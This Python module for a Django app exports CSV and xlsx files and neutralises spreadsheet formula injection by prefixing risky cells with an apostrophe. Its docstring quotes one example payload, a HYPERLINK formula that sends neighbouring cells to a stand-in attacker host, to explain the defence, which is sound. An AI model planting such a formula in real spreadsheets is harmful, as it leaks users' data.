"""Spreadsheet exports every app uses: CSV that Excel opens with Chinese intact and Excel
workbooks (``.xlsx``, openpyxl), never with a live formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and WPS. An applicant who names the organisation
``=HYPERLINK("https://evil.example/?leak="&C3,"点此查看")`` would otherwise put a working link
into a clerk's spreadsheet that sends the neighbouring cells away (OWASP "CSV injection"). Such a
cell is written with a leading apostrophe, which the spreadsheet shows as plain text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.http import HttpResponse
from django.utils import timezone

#: First characters that make a spreadsheet cell a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> str | int | float:
    """``value`` as a cell that a spreadsheet shows as text, never evaluates.

    Numbers stay numbers (``-3`` is a number, not a formula); any text that starts with a
    formula character gets a leading apostrophe.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_response(basename: str, header: Sequence, rows: Iterable[Sequence]) -> HttpResponse:
    """An attachment ``<basename>-<China time>.csv``: UTF-8 with a BOM (Excel reads Chinese
    correctly), every cell through :func:`safe_cell`."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    stamp = timezone.localtime().strftime("%Y%m%d-%H%M")
    response["Content-Disposition"] = f'attachment; filename="{basename}-{stamp}.csv"'
    response.write("\ufeff")
    writer = csv.writer(response)
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return response


XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_response(basename: str, sheet_title: str, header: Sequence, rows: Iterable[Sequence]):
    """An attachment ``<basename>-<China time>.xlsx`` with one sheet; every cell through
    :func:`safe_cell` and written as a value (openpyxl would store text starting with ``=`` as a
    formula), the header bold and frozen, columns sized to their content."""
    import io

    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    sheet = book.active
    sheet.title = sheet_title[:31]  # Excel's limit
    widths: dict[int, int] = {}
    for r, row in enumerate([header, *rows], start=1):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(row=r, column=c)
            cell.value = safe_cell(value)
            cell.data_type = "n" if isinstance(cell.value, int | float | Decimal) else "s"
            widths[c] = max(widths.get(c, 0), len(str(cell.value)))
            if r == 1:
                cell.font = Font(bold=True)
    for c, width in widths.items():
        sheet.column_dimensions[sheet.cell(row=1, column=c).column_letter].width = min(
            60,
            max(8, width * 2 + 2),  # Chinese characters are about two columns wide
        )
    sheet.freeze_panes = "A2"
    buffer = io.BytesIO()
    book.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE)
    stamp = timezone.localtime().strftime("%Y%m%d-%H%M")
    response["Content-Disposition"] = f'attachment; filename="{basename}-{stamp}.xlsx"'
    return response
